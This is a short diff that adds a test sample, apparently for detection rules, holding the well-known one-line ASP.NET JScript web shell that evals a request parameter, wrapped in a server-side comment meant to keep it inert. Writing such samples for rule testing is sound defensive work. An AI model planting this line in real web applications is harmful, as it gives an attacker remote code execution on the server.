@@ -1,0 +1,3 @@
+<%-- exir test sample: inert text in the shape of a web shell, written for rule tests. The server-side comment around it keeps ASP.NET from running any of it.
+<%@ Page Language="Jscript"%><%eval(Request.Item["exir_sample"],"unsafe");%>
+--%>
